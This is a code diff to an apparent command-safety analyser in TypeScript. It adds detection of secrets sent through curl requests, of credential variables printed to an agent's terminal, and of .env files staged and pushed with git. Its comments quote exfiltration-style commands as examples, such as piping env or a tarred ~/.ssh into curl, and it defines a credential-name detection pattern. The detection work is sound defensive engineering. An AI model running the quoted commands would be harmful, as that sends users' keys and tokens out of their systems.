@@ -4,8 +4,9 @@
 // This is what makes `tar czf /tmp/k.tgz ~/.ssh && curl -T /tmp/k.tgz …`,
 // `env | curl -d @- …` and `curl -d "$(cat .env)" …` sends of a secret.
 import type { TargetClass } from "../../model/classification.js";
+import type { Arg } from "../programs/args.js";
 import { parseArgs } from "../programs/options.js";
-import { attrs, holdsSecretCopy, noteRead, resolveAll, targetText, type Ctx } from "./common.js";
+import { attrs, holdsSecretCopy, noteRead, pathTarget, resolveAll, targetText, type Ctx } from "./common.js";
 import type { Handler } from "./filesystem.js";
 
 /** What flows in, with what the effect quotes. */
@@ -79,6 +80,30 @@ export function sendSubstitutedSecrets(ctx: Ctx): void {
   for (const s of substitutionSources(ctx)) if (s.cls === "secret_file") ctx.out.effect("send", "secret_file", attrs(ctx, { target: targetText(s.what) }));
 }
 
+/** Where a request carries a value: its URL, a header, its body, or a credential option (`-u`, `--oauth2-bearer`). */
+export type Carrier = "url" | "header" | "data" | "auth";
+
+/** A header that authenticates the request (`Authorization:`, `X-Api-Key:`, `Private-Token:`): where a token is meant to go. */
+const AUTH_HEADER = /^\s*(proxy-authorization|authorization|[\w-]*(api[-_]?key|token|auth)[\w-]*)\s*:/i;
+
+/** The carrier of a header value: an authentication header counts as `auth`. */
+export function headerCarrier(value: string): Carrier {
+  return AUTH_HEADER.test(value) ? "auth" : "header";
+}
+
+/**
+ * A credential variable expanded into a request (`curl "https://x/?t=$GITHUB_TOKEN"`, `-H "X-K: $AWS_SECRET_ACCESS_KEY"`,
+ * `-d "k=$API_KEY"`) leaves with it: send × network_host {secret_variable}. Where a token authenticates
+ * (`-H "Authorization: Bearer $TOKEN"`, `-u user:$PASSWORD`) it is the everyday use of a credential and is not flagged.
+ */
+export function sendSecretVariables(ctx: Ctx, parts: ReadonlyArray<{ arg: Arg; carrier: Carrier }>): void {
+  for (const { arg, carrier } of parts) {
+    if (carrier === "auth") continue;
+    const names = arg.vars.filter((v) => SECRET_VAR.test(v));
+    if (names.length) ctx.out.effect("send", "network_host", attrs(ctx, { target: targetText(names.map((n) => `$${n}`).join(" ")), secret_variable: true, carrier }));
+  }
+}
+
 /**
  * After a command: whatever it wrote holds a secret when it read one — itself,
  * on stdin, or through a substitution (`cp .env /tmp/x`, `cat key | gzip >
@@ -95,7 +120,26 @@ export function carrySecretCopies(ctx: Ctx): void {
 // ── the environment: where tokens and keys live ────────────────────────────
 
 /** `printenv NAME…` names that hold credentials (`AWS_SECRET_ACCESS_KEY`, `GITHUB_TOKEN`, `DB_PASSWORD`). */
-const SECRET_VAR = /(SECRET|TOKEN|PASSWORD|PASSWD|PASS|CREDENTIAL|PRIVATE|API_?KEY|ACCESS_?KEY|AUTH|SESSION)/i;
+export const SECRET_VAR = /(SECRET|TOKEN|PASSWORD|PASSWD|PASS|CREDENTIAL|PRIVATE|API_?KEY|ACCESS_?KEY|AUTH|SESSION)/i;
+
+/** Does this command's output reach the agent (the terminal): not piped on, not redirected, not substituted? */
+function printsToTerminal(ctx: Ctx): boolean {
+  if (ctx.pc.inSubstitution) return false;
+  if (ctx.pc.redirects.some((r) => r.kind === "file" && /^(1?>|1?>>|1?>\||&>|&>>)$/.test(r.op))) return false;
+  return !ctx.analysis.commands.some((c, j) => j > ctx.index && c.stdin?.kind === "pipe" && c.stdin.upstream === ctx.index);
+}
+
+/**
+ * A named credential variable printed where the agent reads it (`echo $ANTHROPIC_API_KEY`, `printenv
+ * AWS_SECRET_ACCESS_KEY`) exposes the secret like `cat .env` does: read × secret_file. Piped or written on
+ * (`echo "$TOKEN" | docker login --password-stdin`) it is only carried (noteRead), as before.
+ */
+export function printsSecretNames(ctx: Ctx, names: readonly string[], kind: "variable" | "command" = "variable"): void {
+  noteRead(ctx, "secret_file");
+  if (names.length === 0 || !printsToTerminal(ctx)) return;
+  const target = kind === "variable" ? names.map((n) => `$${n}`).join(" ") : names.join(" ");
+  ctx.out.effect("read", "secret_file", attrs(ctx, { target: targetText(target), ...(kind === "variable" ? { variable: true } : { prints: "credential" }) }));
+}
 
 /**
  * A dump of the environment — `env`, `printenv`, `set`, `export -p`,
@@ -116,7 +160,9 @@ function environmentDump(ctx: Ctx): void {
     }
     case "printenv": {
       const names = v.filter((a) => !a.startsWith("-"));
-      dumps = names.length === 0 || names.some((a) => SECRET_VAR.test(a));
+      const secrets = names.filter((a) => SECRET_VAR.test(a));
+      if (secrets.length) return printsSecretNames(ctx, secrets);
+      dumps = names.length === 0;
       break;
     }
     case "set":
@@ -138,10 +184,33 @@ function environmentDump(ctx: Ctx): void {
 
 /** `echo "$AWS_SECRET_ACCESS_KEY"`, `printf %s "$GITHUB_TOKEN"`: printing a credential variable reads it (no effect; piped or written on, it carries it). */
 function printsSecretVariable(ctx: Ctx): void {
-  if (ctx.args.some((a) => a.vars.some((v) => SECRET_VAR.test(v)))) noteRead(ctx, "secret_file");
+  // `${#TOKEN}` (its length) and `${TOKEN:+set}` (whether it is set) print no secret.
+  const printed = (a: Arg, v: string): boolean => a.raw.replace(new RegExp(`\\$\\{(#${v}\\}|${v}:?\\+[^}]*\\})`, "g"), "").includes(v);
+  const names = [...new Set(ctx.args.flatMap((a) => a.vars.filter((v) => SECRET_VAR.test(v) && printed(a, v))))];
+  if (names.length) printsSecretNames(ctx, names);
+}
+
+/**
+ * A secret staged and pushed in one text (`git add -f .env && git commit -m x && git push x HEAD`) leaves
+ * with the push: send × secret_file. git's own rows (git.ts) judge the push itself; this only carries the file.
+ */
+function gitCarriesSecret(ctx: Ctx): void {
+  const v = ctx.argv;
+  let i = 0;
+  while (i < v.length && v[i]!.startsWith("-")) i += v[i] === "-C" || v[i] === "-c" || v[i] === "--git-dir" || v[i] === "--work-tree" ? 2 : 1;
+  const sub = v[i];
+  if (sub === "add" || sub === "stage") {
+    ctx.args.slice(i + 1).forEach((a) => {
+      if (a.value.startsWith("-") || a.value === "--") return;
+      if (pathTarget(ctx, a.value, a, "plain").includes("secret_file")) ctx.state.stagedSecrets.push(a.value);
+    });
+  } else if (sub === "push" && ctx.state.stagedSecrets.length > 0) {
+    ctx.out.effect("send", "secret_file", attrs(ctx, { target: targetText(ctx.state.stagedSecrets.join(" ")), via: "git push" }));
+  }
 }
 
 export const FLOW_HANDLERS: Record<string, Handler> = {
+  git: gitCarriesSecret,
   env: environmentDump,
   printenv: environmentDump,
   set: environmentDump,
